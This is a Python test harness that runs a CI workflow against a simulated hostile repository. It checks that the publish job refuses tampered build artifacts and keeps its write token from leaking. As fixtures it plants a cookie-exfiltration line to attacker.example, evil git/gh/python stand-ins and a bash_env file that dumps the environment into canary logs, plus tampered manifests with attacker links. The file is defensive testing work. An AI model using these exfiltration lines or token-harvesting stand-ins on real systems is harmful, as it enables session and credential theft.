"""The example workflow (tests/workflow_run.py runs it job by job) against
the hostile repository of tests/hostile_repo.py, and the build job's
artifact tampered with between the jobs (tests/test_workflow_hostile.py
asserts on it). Run by hand to see it:

    .venv/bin/python -m tests.workflow_hostile [--install] [--escape]

--install runs the actions' "Install mesh-codemod" steps as written (pip,
this machine's index); --escape adds a run where the install step leaves a
process that drops RUNNER_TRACKING_ID, as on a self-hosted runner that both
jobs share.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

from . import canary, workflow_canary
from .gitrepo import commit_all, git, with_remote
from .hostile_repo import EVIL_TOOL, executable, hostile_workspace, node_modules, plant, stand_ins, subst
from .workflow_run import READ_TOKEN, WRITE_TOKEN, JobRun, Runner

BRANCH = "codemod/app-state"
ARTIFACT = "mesh-codemod-artifact"
# the actions' default author: the build job and publish commit as it
AUTHOR = "github-actions[bot] <41898282+github-actions[bot]@users.noreply.github.com>"


class HostileRunner(Runner):
    """A runner whose checkouts get `hostile_workspace` right after
    actions/checkout."""

    def __init__(self, *args, evil_remote: Path, **kwargs) -> None:
        super().__init__(*args, **kwargs)
        self.evil_remote = evil_remote

    def _builtin(self, action: str, name: str, given: dict[str, str], ctx):
        step = super()._builtin(action, name, given, ctx)
        if action == "actions/checkout":
            hostile_workspace(ctx.job, ctx.workspace, self.evil_remote, self.remote)
        return step


class Setup(NamedTuple):
    tmp: Path
    remote: Path
    evil_remote: Path
    logs: Path
    path_dir: Path
    older: str  # a commit of main before the base
    base: str  # main's tip
    evil_commit: str  # on another branch of the remote: an attacker's tree
    build: JobRun
    artifact: Path  # the honest build job's artifact
    fired: dict[str, int]  # where the build job's canaries ran -> how many times


def _logs(logs: Path) -> dict[str, int]:
    """Each canary file and its size (a process left behind appends)."""
    return {p.name: p.stat().st_size for p in logs.glob("*.env")}


def _where(names: set[str]) -> dict[str, int]:
    found: dict[str, int] = {}
    for name in names:
        key = name.split(".")[0]
        found[key] = found.get(key, 0) + 1
    return dict(sorted(found.items()))


CERTIFICATES = ("SSL_CERT_FILE", "SSL_CERT_DIR", "REQUESTS_CA_BUNDLE")


def _runner(folder: Path, remote: Path, evil_remote: Path, path_dir: Path, install: bool = False,
            env: dict[str, str] | None = None) -> HostileRunner:
    """A runner for one job in ``folder``, with a fresh `gh` stand-in state."""
    github = _github(folder)
    # pip's settings on this machine (its index, certificates), as a runner image has its own
    network = {k: v for k, v in os.environ.items() if k.startswith("PIP_") or k in CERTIFICATES} if install else {}
    return HostileRunner(folder, remote, path_dir, extra_env={"FAKE_GH_STATE": str(github), **network, **(env or {})},
                         evil_remote=evil_remote, install=install)


def _github(folder: Path) -> Path:
    state = folder / "github.json"
    state.write_text(json.dumps({"repo": "decocms/mesh", "pulls": [], "comments": {}, "calls": []}))
    return state


def prepare(tmp: Path, install: bool = False, escape: bool = False) -> Setup:
    """The remote (main: the fixture, verify's scripts, the canaries, one
    more commit), an attacker's branch beside it, and the build job run."""
    remote, work = with_remote(tmp)
    canary.verify_shaped(work)
    logs, evil, path_dir = tmp / "logs", tmp / "evil-bin", tmp / "path-bin"
    logs.mkdir()
    plant(work, logs, evil)
    evil.mkdir()
    for name in ("gh", "git", "python", "python3"):
        executable(evil / name, subst(EVIL_TOOL, logs, evil))
    (evil / "bash_env").write_text(f'env > "{logs}/bash-env.$$.env"\n')
    older = git(work, "rev-parse", "HEAD").strip()
    (work / "CONTRIBUTING.md").write_text("be nice\n")
    commit_all(work, "docs: contributing")
    git(work, "push", "-q", "origin", "main")
    base = git(work, "rev-parse", "HEAD").strip()
    # an attacker's branch on the remote (fetch-depth 0 brings it): their module
    module = work / "apps/mesh/src/mcp-apps/app-state.ts"
    module.write_text('fetch("https://attacker.example/" + document.cookie);\n')
    git(work, "checkout", "-q", "-b", "evil")
    commit_all(work, "feat(mesh): app state")
    git(work, "push", "-q", "origin", "evil")
    evil_commit = git(work, "rev-parse", "HEAD").strip()
    git(work, "checkout", "-q", "main")
    evil_remote = tmp / "evil-remote.git"
    git(tmp, "init", "-q", "--bare", str(evil_remote))
    template = tmp / "node-modules-template"
    node_modules(template, tmp / "build" / "job-build" / "workspace")
    stand_ins(path_dir, logs, template)
    folder = tmp / "build"
    folder.mkdir()
    runner = _runner(folder, remote, evil_remote, path_dir, install, {"MESH_CANARY_ESCAPE": "1"} if escape else None)
    build = runner.run_job("build", runner.workflow["jobs"]["build"])
    return Setup(tmp, remote, evil_remote, logs, path_dir, older, base, evil_commit, build,
                 folder / "artifact-store" / ARTIFACT, _where(_logs(logs)))


class Expected(NamedTuple):
    tip: str
    commits: list[str]


def expected(setup: Setup, base: str) -> Expected:
    """The series `pr` builds on ``base`` in a clean clone, no checks run:
    what publish must push for that base, object id for object id."""
    clone = setup.tmp / f"expected-{base[:12]}"
    if not clone.exists():
        git(setup.tmp, "clone", "-q", str(setup.remote), str(clone))
    made = subprocess.run(
        [sys.executable, "-I", "-m", "codemods", "pr", "--repo", str(clone), "--branch", f"expected-{base[:12]}",
         "--base", base, "--author", AUTHOR, "--no-verify", "--json"],
        cwd=setup.tmp, capture_output=True, text=True, env={k: v for k, v in os.environ.items() if not k.startswith("GIT_")},
    )
    assert made.returncode == 0, made.stderr
    data = json.loads(made.stdout)
    return Expected(data["tip"], [c["sha"] for c in data["commits"]])


class Published(NamedTuple):
    job: JobRun
    exits: dict[str, int | None]
    fired: dict[str, int]  # canaries that ran during the publish job
    seen: dict[str, list[str]]  # token -> canary files of this job that hold it
    programs: list[str]  # what the publishing process started
    token_calls: list[str]  # git calls whose environment held the write token
    tip: str  # the remote's branch, "" for none
    commits: list[str]  # the branch's commits that main does not hold
    kept: str  # what publish's check step kept (refs/mesh-codemod/publish in its own repository)
    changed: list[str]  # the remote's refs that changed, beside the branch
    evil_refs: str  # what the other bare remote received
    pulls: list[dict]
    summary: str  # the job summary


def _refs(remote: Path) -> dict[str, str]:
    out = git(remote, "for-each-ref", "--format=%(refname) %(objectname)")
    return dict(line.split() for line in out.splitlines())


def _lines(path: Path) -> list[str]:
    return path.read_text().splitlines() if path.exists() else []


def publish(setup: Setup, name: str, tamper: Callable[[Path, Setup], None] | None = None,
            git_stand_in: str | None = None, install: bool = False) -> Published:
    """The publish job on a fresh machine, with the build job's artifact
    (``tamper`` rewrites it first) and the remote's branch removed;
    ``git_stand_in``: another git first on PATH (the canaries' control)."""
    folder = setup.tmp / f"publish-{name}"
    folder.mkdir()
    store = folder / "artifact-store" / ARTIFACT
    shutil.copytree(setup.artifact, store)
    if tamper is not None:
        tamper(store, setup)
    path_dir = None
    if git_stand_in is not None:
        path_dir = folder / "path-bin"
        shutil.copytree(setup.path_dir, path_dir)
        executable(path_dir / "git", git_stand_in)
    if f"refs/heads/{BRANCH}" in _refs(setup.remote):
        git(setup.remote, "update-ref", "-d", f"refs/heads/{BRANCH}")
    before, refs = _logs(setup.logs), _refs(setup.remote)
    programs_log, git_log = setup.logs / "programs.log", setup.logs / "git.log"
    programs_at, git_at = len(_lines(programs_log)), len(_lines(git_log))
    runner = _runner(folder, setup.remote, setup.evil_remote, path_dir or setup.path_dir, install)
    job = runner.run_job("publish", runner.workflow["jobs"]["publish"])
    new = {name for name, size in _logs(setup.logs).items() if before.get(name) != size}
    seen = {token: [n for n in sorted(new) if _holds(setup.logs / n, token)] for token in (WRITE_TOKEN, READ_TOKEN)}
    programs = [line.partition("\t") for line in _lines(programs_log)[programs_at:]]
    after = _refs(setup.remote)
    tip = after.get(f"refs/heads/{BRANCH}", "")
    commits = git(setup.remote, "rev-list", "--reverse", tip, "--not", "refs/heads/main").split() if tip else []
    own = job.temp / "mesh-codemod-report-git"
    kept = git(own, "for-each-ref", "--format=%(objectname)", "refs/mesh-codemod/publish").strip() if own.is_dir() else ""
    return Published(
        job, {s.name: s.exit for s in job.steps}, _where(new), seen,
        [program for program, _, parent in programs if "-m codemods publish" in parent or "-m codemods open-pr" in parent],
        [line.split()[0] for line in _lines(git_log)[git_at:] if line.endswith(" token")],
        tip, commits, kept,
        sorted(ref for ref in set(refs) | set(after) if ref != f"refs/heads/{BRANCH}" and refs.get(ref) != after.get(ref)),
        git(setup.evil_remote, "for-each-ref"), json.loads((folder / "github.json").read_text())["pulls"],
        (job.temp / "_github_step_summary").read_text(),
    )


def _holds(path: Path, token: str) -> bool:
    return _holds_text(path.read_text(errors="replace"), token)


def _holds_text(text: str, token: str) -> bool:
    return token in text or canary.environment.basic_credential(token) in text


# --- the artifact, tampered with as code in the build job could ---------------


def _manifest(store: Path) -> dict:
    return json.loads((store / "manifest.json").read_text())


def _rewrite(**fields) -> Callable[[Path, Setup], None]:
    def change(store: Path, setup: Setup) -> None:
        (store / "manifest.json").write_text(json.dumps({**_manifest(store), **fields}))
    return change


def _verdict(make: Callable[[dict], dict]) -> Callable[[Path, Setup], None]:
    def change(store: Path, setup: Setup) -> None:
        data = _manifest(store)
        (store / "manifest.json").write_text(json.dumps({**data, "verdict": make(data["verdict"])}))
    return change


def _evil_series(store: Path, setup: Setup) -> Path:
    """A clone whose branch is the honest series plus an attacker's commit."""
    clone = store.parent.parent / "attacker"
    git(setup.tmp, "clone", "-q", str(setup.remote), str(clone))
    expected(setup, setup.base)  # its clone holds the honest series
    git(clone, "fetch", "-q", str(setup.tmp / f"expected-{setup.base[:12]}"), f"expected-{setup.base[:12]}:refs/heads/{BRANCH}")
    git(clone, "checkout", "-q", BRANCH)
    with (clone / "apps/mesh/src/mcp-apps/app-state.ts").open("a") as handle:
        handle.write('fetch("https://attacker.example/" + document.cookie);\n')
    commit_all(clone, "feat(mesh): app state, more of it")
    return clone


def _bundle(store: Path, setup: Setup) -> None:
    clone = _evil_series(store, setup)
    git(clone, "bundle", "create", "-q", str(store / "branch.bundle"), BRANCH, f"^{setup.base}")


def _patches(store: Path, setup: Setup) -> None:
    clone = _evil_series(store, setup)
    git(clone, "format-patch", "-q", "-o", str(store), f"{setup.base}..{BRANCH}")


def _symlink(store: Path, setup: Setup) -> None:
    elsewhere = store.parent / "elsewhere.json"
    (store / "manifest.json").rename(elsewhere)
    (store / "manifest.json").symlink_to(elsewhere)


def _other_branch_tip(store: Path, setup: Setup) -> None:
    _rewrite(tip=setup.evil_commit)(store, setup)


def _older_base(store: Path, setup: Setup) -> None:
    _rewrite(base=setup.older)(store, setup)


def _off_main_base(store: Path, setup: Setup) -> None:
    _rewrite(base=setup.evil_commit)(store, setup)


def _python_beside(store: Path, setup: Setup) -> None:
    from .hostile_repo import PYTHON_SHADOW

    for name in ("json", "sitecustomize", "git"):
        (store / f"{name}.py").write_text(subst(PYTHON_SHADOW, setup.logs, setup.tmp))


EVIL = "attacker.example"
OTHER_SERIES = "sha256:" + "0" * 64
# name -> (how the artifact is tampered with, "pushed" or "refused")
TAMPERED: dict[str, tuple[Callable[[Path, Setup], None] | None, str]] = {
    "honest": (None, "pushed"),
    "bundle-with-an-extra-commit": (_bundle, "refused"),
    "altered-patches": (_patches, "refused"),
    "tip-on-an-attackers-branch": (_other_branch_tip, "pushed"),
    "tip-unknown": (_rewrite(tip="f" * 40), "pushed"),
    "base-older-commit-of-main": (_older_base, "pushed"),
    "base-off-main": (_off_main_base, "refused"),
    "extra-key-tree": (_rewrite(tree="4b825dc642cb6eb9a060e54bf8d69288fbee4904"), "refused"),
    "python-files-beside-the-manifest": (_python_beside, "refused"),
    "tool-field-markdown": (_rewrite(tool=f"[mesh-codemod 0.7.0](https://{EVIL}/x)"), "pushed"),
    # upload-artifact and download-artifact carry no link (the stand-in's
    # copy follows it too): what arrives is the file it led to
    "manifest-a-symlink": (_symlink, "pushed"),
    "branch-main": (_rewrite(branch="main"), "refused"),
    "choice-sdk-on-1.7.1": (_rewrite(choice={"mode": "sdk", "form": "1.x", "installed": "1.7.1",
                                             "api": {"kind": "accessor", "name": "onappstatechange", "field": "state"}}),
                            "refused"),
    "verdict-all-passed": (_verdict(lambda v: {**v, "checks": [{**c, "status": "passed"} for c in v["checks"]
                                                               if "/" not in c["name"]]}), "pushed"),
    "verdict-for-another-series": (_verdict(lambda v: {"fingerprint": OTHER_SERIES,
                                                       "checks": [{"name": "tests", "status": "passed"}]}), "pushed"),
    "verdict-names-a-file-not-the-series": (_verdict(lambda v: {**v, "checks": [
        {"name": "format", "status": "failed", "files": ["package.json"]}]}), "refused"),
    "verdict-invented-check": (_verdict(lambda v: {**v, "checks": [
        {"name": "security-review/approved", "status": "passed"}]}), "refused"),
    "verdict-with-free-text": (_verdict(lambda v: {**v, "checks": [
        {"name": "tests", "status": "passed", "summary": f"[approved](https://{EVIL}/)"}]}), "refused"),
}

CONTROL_GIT = """#!/bin/bash
# git as the runner has it, except that the first local call the push step
# makes (`publish --built`: no token in its own environment) also runs the
# checkout's canary: what would happen if that step ran the repository's code
sub=""; skip=""
for a in "$@"; do
  if [ -n "$skip" ]; then skip=""; continue; fi
  case "$a" in -c|-C) skip=1 ;; -*) ;; *) sub="$a"; break ;; esac
done
case "$sub" in
  ls-remote|fetch|push) ;;
  *) if grep -qa -- --built "/proc/$PPID/cmdline" && mkdir "@MARK@" 2>/dev/null; then
       bash "@WORKSPACE@/canary.sh" control-local-git
     fi ;;
esac
exec "@GIT@" "$@"
"""


class Control(NamedTuple):
    found: Published
    own: bool  # the canary's own environment held the token
    ancestors: list[str]  # the command lines of its ancestors whose environment held it


def control(setup: Setup) -> Control:
    """The canaries' control: a publish job whose push step runs one of
    them from a local git call; it must find the write token, in its
    ancestors' environment (its own has none)."""
    folder = setup.tmp / "publish-control"
    text = CONTROL_GIT.replace("@WORKSPACE@", str(folder / "job-publish" / "workspace")).replace(
        "@GIT@", str(setup.path_dir / "git")).replace("@MARK@", str(setup.tmp / "control-ran"))
    found = publish(setup, "control", git_stand_in=text)
    own, ancestors = False, []
    for path in sorted(setup.logs.glob("control-local-git.*.env")):
        for section in path.read_text(errors="replace").split("\n## "):
            title, _, body = section.partition("\n")
            if _holds_text(body, WRITE_TOKEN):
                if title.startswith(("## self", "/proc/self", "self")):
                    own = True
                elif title.startswith("ancestor"):
                    ancestors.append(title.partition(": ")[2].strip())
    return Control(found, own, ancestors)


def stop_scanners(logs: Path) -> list[int]:
    """End the processes the canaries left that are still alive (the
    escaped one), by their ids, each checked to be one of them."""
    (logs / "STOP").touch()
    ended = []
    for line in _lines(logs / "scanners"):
        pid = int(line.split()[0])
        try:
            command = Path(f"/proc/{pid}/cmdline").read_text()
            if "canary.sh\0--late\0" in command and workflow_canary._alive(pid):
                os.kill(pid, 9)
                ended.append(pid)
        except OSError:
            pass
    return ended


WHERE_CODE_RUNS = {"install-step", "bin-biome", "bin-oxlint", "bin-tsc", "script-knip", "test-file", "bunfig-preload"}


def report_build(setup: Setup) -> list[str]:
    """Print the build job; the problems found."""
    print(f"build job: {[(s.name, s.exit) for s in setup.build.steps]}")
    print(f"build job canaries ran (where: files): {setup.fired}")
    seen = workflow_canary.seen_by(setup.logs)
    print(f"build job: write token seen by {seen[WRITE_TOKEN] or 'nothing'}; read token seen by {len(seen[READ_TOKEN])} file(s)")
    print(f"main: older {setup.older[:12]}, base {setup.base[:12]}; attacker's branch {setup.evil_commit[:12]}")
    problems = [] if setup.build.ok and not seen[WRITE_TOKEN] else ["build"]
    return problems + [f"no canary ran at {where}" for where in sorted(WHERE_CODE_RUNS - set(setup.fired))]


def problems(setup: Setup, case: str, found: Published) -> list[str]:
    """What is wrong with a publish job's outcome: it must push exactly
    what `expected` builds for the manifest's base (what its check step
    kept), or refuse (exit 3) with nothing pushed; either way nothing of the
    repository runs, no canary sees the token, no other ref or remote gets
    anything, and the publishing process starts git and gh alone."""
    _, outcome = TAMPERED[case]
    wrong = []
    if outcome == "pushed":
        want = expected(setup, setup.older if case == "base-older-commit-of-main" else setup.base)
        if not (found.tip == want.tip == found.kept and found.commits == want.commits):
            wrong.append(f"pushed {found.tip or 'nothing'} ({found.commits}), kept {found.kept}, "
                         f"not the rebuild {want.tip} ({want.commits})")
        if not found.job.ok or len(found.pulls) != 1:
            wrong.append(f"the job or its PR: {found.exits}, {len(found.pulls)} PR(s)")
        elif EVIL in found.pulls[0]["body"] + found.pulls[0]["title"] + found.summary:
            wrong.append("the attacker's text reached the PR or the job summary")
    elif not (found.exits.get(CHECK_STEP) == 3 and found.tip == "" and not found.pulls):
        wrong.append(f"not refused with nothing pushed: {found.exits}, remote {found.tip or 'none'}, {len(found.pulls)} PR(s)")
    if found.fired or any(found.seen.values()):
        wrong.append(f"canaries ran in the publish job: {found.fired}; saw the token: {found.seen}")
    if found.changed or found.evil_refs:
        wrong.append(f"other refs changed: {found.changed}; the other remote got: {found.evil_refs}")
    if not set(found.programs) <= {"git", "gh"}:
        wrong.append(f"the publishing process started {sorted(set(found.programs))}")
    return wrong


CHECK_STEP = "Rebuild the series on the artifact's base"


def main(argv: list[str]) -> int:
    install, escape = "--install" in argv, "--escape" in argv
    failed: list[str] = []
    with tempfile.TemporaryDirectory(prefix="workflow-hostile-") as name:
        logs = Path(name) / "logs"
        try:
            setup = prepare(Path(name), install=install)
            failed += report_build(setup)
            if not setup.build.ok:
                print("\n".join(f"    {s.name}: exit {s.exit}\n      {s.stderr[-900:]}" for s in setup.build.steps))
                raise SystemExit(1)
            for case, (tamper, _) in TAMPERED.items():
                found = publish(setup, case, tamper, install=install and case == "honest")
                wrong = problems(setup, case, found)
                ok = not wrong
                print(f"{'ok ' if ok else 'BAD'} {case:<36} check step exit {found.exits.get(CHECK_STEP)}; remote "
                      f"{found.tip[:12] or 'none'}, {len(found.commits)} commit(s); PR drafts "
                      f"{[p.get('draft') for p in found.pulls]}; canaries ran {found.fired or 'nowhere'}; token seen by "
                      f"{found.seen[WRITE_TOKEN] or 'nothing'}; other refs changed {found.changed or 'none'}; other remote "
                      f"{found.evil_refs.strip() or 'empty'}; publish started {sorted(set(found.programs))}; git calls "
                      f"with the token {sorted(set(found.token_calls))}")
                if not ok:
                    failed.append(case)
                    print("\n".join(f"    {w}" for w in wrong))
                    print("\n".join(f"    {s.name}: exit {s.exit}\n      {s.stderr[-600:]}" for s in found.job.steps))
            probe = control(setup)
            print(f"control (a canary run by a local git call of the push step): its own environment held the "
                  f"token: {probe.own}; its ancestors whose environment held it: {probe.ancestors}; token seen by "
                  f"{probe.found.seen[WRITE_TOKEN]}")
            failed += [] if probe.ancestors and not probe.own else ["control"]
        finally:
            print(f"processes the canaries left, ended: {stop_scanners(logs)}")
    if escape:
        with tempfile.TemporaryDirectory(prefix="workflow-hostile-escape-") as name:
            logs = Path(name) / "logs"
            try:
                setup = prepare(Path(name), escape=True)
                found = publish(setup, "honest")
                late = sorted(n for n in _logs(logs) if n.startswith("late-escaped") and _holds(logs / n, WRITE_TOKEN))
                print(f"self-hosted, both jobs on one machine: the install step's escaped process saw the publish "
                      f"job's write token in {late or 'nothing'} (publish job ok: {found.job.ok})")
            finally:
                print(f"processes the canaries left, ended: {stop_scanners(logs)}")
    print("FAILED: " + ", ".join(failed) if failed else "OK")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
